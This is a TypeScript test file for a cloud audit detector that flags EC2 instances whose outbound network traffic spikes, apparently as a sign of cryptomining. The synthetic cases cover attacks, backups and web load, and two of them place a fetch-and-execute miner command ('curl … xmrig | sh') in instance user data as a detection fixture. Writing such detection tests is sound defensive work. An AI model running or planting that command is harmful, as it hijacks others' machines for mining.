import { describe, expect, it } from 'vitest';
import { detector } from '../../src/detectors/network-spike.js';
import { SlidingMedian } from '../../src/detectors/lib/sliding-median.js';
import { median } from '../../src/detectors/lib/stats.js';
import type { AuditData, MetricName, MetricSeries } from '../../src/providers/types.js';
import type { Finding } from '../../src/detectors/types.js';
import { DAY, HOUR, NOW, emptyAccount, hoursAgo, instance, iso, run, series, type DetectorCase } from './fixtures.js';

const MB = 1024 * 1024;
const PER_HOUR = 12;

/**
 * 5-minute Sum datapoints for `historyHours` then the last hour before NOW; `history(k)` and
 * `recent(k)` give MB per datapoint; `k` counts from the series start.
 */
function net(id: string, historyHours: number, history: (k: number) => number, recent: number, o: { metric?: MetricName; region?: string } = {}): MetricSeries {
  const n = (historyHours + 1) * PER_HOUR;
  const values = Array.from({ length: n }, (_, k) => (k >= n - PER_HOUR ? recent : history(k)) * MB);
  return series(id, o.metric ?? 'NetworkOut', hoursAgo(historyHours + 1), 300, values, o.region);
}

/** A nightly backup: 100 MB per 5 minutes for one hour every 24 hours, 10 MB otherwise; the last hour of the series is backup time. */
const backup = (historyHours: number) => (k: number): number => ((historyHours * PER_HOUR - k) % (24 * PER_HOUR) < PER_HOUR && k < historyHours * PER_HOUR - PER_HOUR ? 100 : 10);

/** 5-minute Sum datapoints over the `days` before NOW; `mb(t)` gives MB per datapoint at time t. */
function traffic(id: string, days: number, mb: (t: number) => number, o: { metric?: MetricName } = {}): MetricSeries {
  const values = Array.from({ length: days * 24 * PER_HOUR }, (_, k) => mb(NOW - days * DAY + k * 300_000) * MB);
  return series(id, o.metric ?? 'NetworkOut', NOW - days * DAY, 300, values);
}

/** 10 MB a datapoint, 60 MB (six times) in [from, to). */
const step = (from: number, to = Infinity) => (t: number): number => (t >= from && t < to ? 60 : 10);

/** Deterministic noise in [-1, 1] for datapoint time t. */
const noise = (t: number, seed: number): number => Math.sin((t / 300_000) * 12.9898 + seed * 78.233) * 0.5 + Math.sin((t / 300_000) * 4.1414 + seed) * 0.5;

/**
 * web-1 in the demo: a diurnal web server (0.6x at night to 1.4x at the 15:00 UTC peak of a mean of
 * 150 MB a datapoint, about 1.7 GiB an hour, 5% noise) that starts mining at `from`, adding 4.5 times
 * its mean on top: about 5.5 times its median.
 */
const webServer = (from: number) => (t: number): number => {
  const load = (1 + Math.cos((2 * Math.PI * (t / HOUR - 15)) / 24)) / 2;
  const base = 143 * (0.6 + 0.8 * load) * (1 + 0.05 * noise(t, 1));
  return t >= from ? base + 4.5 * 143 * (1 + 0.04 * noise(t, 2)) : base;
};

/** Average CPU datapoints over the `days` before NOW. */
const cpu = (id: string, days: number, percent: (t: number) => number): MetricSeries =>
  series(id, 'CPUUtilization', NOW - days * DAY, 300, Array.from({ length: days * 24 * PER_HOUR }, (_, k) => percent(NOW - days * DAY + k * 300_000)));

function account(metrics: MetricSeries[], extra: Partial<AuditData> = {}): AuditData {
  const data = emptyAccount(extra);
  data.metrics = metrics;
  return data;
}

/** An audit of the last seven days, as `rigwatch audit --since 7d` runs it. */
const week = (metrics: MetricSeries[], extra: Partial<AuditData> = {}): AuditData => account(metrics, { window: { start: NOW - 7 * DAY, end: NOW }, ...extra });

interface Swing {
  metric: string;
  swingStart: string;
  swingEnd: string;
  stillElevated: boolean;
  baselineMiBPerHour: number;
  afterMiBPerHour: number;
  swingPercent: number;
  datapoints: { after: number; baseline: number };
}
const swingsOf = (f: Finding | undefined): Swing[] => (f?.evidence.instances as { metrics: Swing[] }[])[0]?.metrics ?? [];
const near = (at: string, expected: number, tolerance = 300_000): void => expect(Math.abs(Date.parse(at) - expected)).toBeLessThanOrEqual(tolerance);

type Case = DetectorCase;

const cases: Case[] = [
  {
    name: 'attack: outbound traffic six times its own baseline',
    data: () => account([net('i-00000000000spike', 48, () => 10, 60)]),
    expect: (findings) => {
      expect(findings).toHaveLength(1);
      const f = findings[0] as Finding;
      expect(f.severity).toBe('medium');
      expect(f.resources).toEqual([{ type: 'AWS::EC2::Instance', id: 'i-00000000000spike', region: 'us-east-1' }]);
      expect(swingsOf(f)[0]).toMatchObject({
        metric: 'NetworkOut', swingPercent: 500, baselineMiBPerHour: 120, afterMiBPerHour: 720, stillElevated: true, datapoints: { after: 12, baseline: 288 },
      });
      expect(f.firstSeen).toBe(iso(NOW - HOUR));
      expect(f.lastSeen).toBe(iso(NOW));
    },
  },
  {
    name: 'a tenfold jump is high, and both directions are listed under one instance',
    data: () => account([net('i-00000000000spike', 48, () => 10, 150), net('i-00000000000spike', 48, () => 10, 50, { metric: 'NetworkIn' })]),
    expect: (findings) => {
      expect(findings.map((f) => f.severity)).toEqual(['high']);
      const instances = findings[0]?.evidence.instances as { metrics: { metric: string }[] }[];
      expect(instances).toHaveLength(1);
      expect(instances[0]?.metrics.map((m) => m.metric)).toEqual(['NetworkOut', 'NetworkIn']);
    },
  },
  {
    name: 'mining strings in user data make a plain swing high',
    data: () => account([net('i-00000000000miner', 48, () => 10, 50)], {
      ec2: { instances: [instance({ id: 'i-00000000000miner', userData: 'curl -s http://x/xmrig | sh' })], securityGroups: [] },
    }),
    expect: (findings) => expect(findings.map((f) => f.severity)).toEqual(['high']),
  },
  {
    name: 'benign: steady traffic',
    data: () => account([net('i-00000000000steady', 48, (k) => 10 + (k % 5), 12)]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'benign: the nightly backup peak that the history already holds',
    data: () => account([net('i-00000000000backup', 72, backup(72), 100)]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'traffic well above even the backup peak is flagged',
    data: () => account([net('i-00000000000backup', 72, backup(72), 400)]),
    expect: (findings) => expect(findings).toHaveLength(1),
  },
  {
    name: 'benign: a tiny instance swinging tenfold on kilobytes',
    data: () => account([net('i-000000000000tiny', 48, () => 0.01, 0.1)]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'an instance with too little history is not judged',
    data: () => account([net('i-0000000000000new', 6, () => 10, 100)]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'one finding per region; instances without history are counted as not judged',
    data: () => account([
      net('i-000000000000east', 48, () => 10, 80),
      net('i-000000000000west', 48, () => 10, 80, { region: 'eu-west-1' }),
      net('i-0000000000000new', 6, () => 10, 100, { region: 'eu-west-1' }),
    ]),
    expect: (findings) => {
      expect(findings.map((f) => [f.region, f.resources.length, f.evidence.notJudgedTooLittleHistory]).sort()).toEqual([['eu-west-1', 1, 1], ['us-east-1', 1, 0]]);
    },
  },
  {
    name: 'attack: a swing three days ago that never came down is found at the jump and still elevated',
    data: () => week([traffic('i-0000000000000web1', 10, step(hoursAgo(72)))]),
    expect: (findings) => {
      expect(findings).toHaveLength(1);
      const f = findings[0] as Finding;
      expect(f.severity).toBe('medium');
      near(f.firstSeen as string, hoursAgo(72));
      expect(f.lastSeen).toBe(iso(NOW));
      expect(swingsOf(f)[0]).toMatchObject({ stillElevated: true, swingPercent: 500, swingEnd: iso(NOW) });
      expect(f.title).toContain('(1 still elevated)');
    },
  },
  {
    name: 'attack: a swing that ended yesterday is flagged one level lower, ending where it came down',
    data: () => week([traffic('i-0000000000000web1', 10, step(hoursAgo(72), hoursAgo(24)))]),
    expect: (findings) => {
      expect(findings.map((f) => f.severity)).toEqual(['low']);
      const f = findings[0] as Finding;
      near(f.firstSeen as string, hoursAgo(72));
      near(f.lastSeen as string, hoursAgo(24));
      expect(swingsOf(f)[0]?.stillElevated).toBe(false);
      expect(f.title).toContain('(0 still elevated)');
    },
  },
  {
    name: 'a swing that started before the window is not flagged: the window judges what happened in it',
    data: () => account([traffic('i-0000000000000web1', 10, step(hoursAgo(72)))]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'attack: the demo\'s web-1, a diurnal web server whose outbound traffic goes about 5x when it starts mining',
    data: () => week([traffic('i-0000000000000web1', 9, webServer(Date.parse('2026-03-07T02:15:00Z')))]),
    expect: (findings) => {
      expect(findings).toHaveLength(1);
      const f = findings[0] as Finding;
      near(f.firstSeen as string, Date.parse('2026-03-07T02:15:00Z'));
      expect(f.lastSeen).toBe(iso(NOW));
      const swing = swingsOf(f)[0] as Swing;
      expect(swing.swingPercent).toBeGreaterThan(300);
      expect(swing.baselineMiBPerHour).toBeGreaterThan(1000);
    },
  },
  {
    name: 'benign: the same diurnal web server without the attack',
    data: () => week([traffic('i-0000000000000web1', 9, webServer(Infinity))]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'a swing still elevated with flat high CPU since it began is high',
    data: () => week([
      traffic('i-0000000000000web1', 10, step(hoursAgo(72))),
      cpu('i-0000000000000web1', 10, (t) => (t >= hoursAgo(72) ? 97 + noise(t, 3) : 30 + 10 * noise(t, 4))),
    ]),
    expect: (findings) => {
      expect(findings.map((f) => f.severity)).toEqual(['high']);
      const flat = (findings[0]?.evidence.instances as { flatHighCpu: { hours: number } | null }[])[0]?.flatHighCpu;
      expect(flat?.hours).toBeGreaterThanOrEqual(72);
    },
  },
  {
    name: 'bursty high CPU does not corroborate',
    data: () => week([
      traffic('i-0000000000000web1', 10, step(hoursAgo(72))),
      cpu('i-0000000000000web1', 10, (t) => (t >= hoursAgo(72) ? 88 + 10 * noise(t, 3) : 30)),
    ]),
    expect: (findings) => expect(findings.map((f) => f.severity)).toEqual(['medium']),
  },
  {
    name: 'an ended swing corroborated by mining strings is medium, one level below high',
    data: () => week([traffic('i-00000000000miner', 10, step(hoursAgo(72), hoursAgo(24)))], {
      ec2: { instances: [instance({ id: 'i-00000000000miner', userData: 'curl -s http://x/xmrig | sh' })], securityGroups: [] },
    }),
    expect: (findings) => expect(findings.map((f) => f.severity)).toEqual(['medium']),
  },
  {
    name: 'benign: a nightly backup at ten times the usual traffic, every night of the week',
    data: () => week([traffic('i-0000000000backup', 10, (t) => (new Date(t).getUTCHours() === 1 ? 100 : 10))]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'benign: a nightly job whose first run in the data comes before a day of history is not judged',
    data: () => week([traffic('i-0000000000000etl', 7, (t) => (new Date(t).getUTCHours() < 3 ? 300 : 10))]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: '... which reads as a swing when the history need not span a day',
    data: () => week([traffic('i-0000000000000etl', 7, (t) => (new Date(t).getUTCHours() < 3 ? 300 : 10))]),
    options: { minHistoryHours: 0 },
    expect: (findings) => expect(findings.map((f) => f.lastSeen)).toEqual([iso(Date.parse('2026-03-04T03:00:00Z'))]),
  },
  {
    name: 'the swing threshold is configurable',
    data: () => account([net('i-00000000000spike', 48, () => 10, 60)]),
    options: { swingPercent: 600 },
    expect: (findings) => expect(findings).toEqual([]),
  },
];

describe('network-spike', () => {
  it.each(cases)('$name', (c) => c.expect(run(detector, c.data(), c.options)));
});

describe('the sliding median behind the scan', () => {
  it('agrees with the plain median of every window, ties, even sizes and jumps included', () => {
    const values = Array.from({ length: 400 }, (_, k) => Math.round(50 + 40 * noise(k * 300_000, 5)));
    const window = new SlidingMedian(values);
    for (let k = 0; k < values.length; k += 1 + (k % 3)) {
      const from = Math.max(0, k - 36 - (k % 2));
      window.slideTo(from, k + 1);
      expect(window.median()).toBe(median(values.slice(from, k + 1)));
      expect(window.size).toBe(k + 1 - from);
    }
    window.slideTo(390, 400);
    expect(window.median()).toBe(median(values.slice(390)));
    expect(() => window.slideTo(380, 400)).toThrow(RangeError);
  });
});
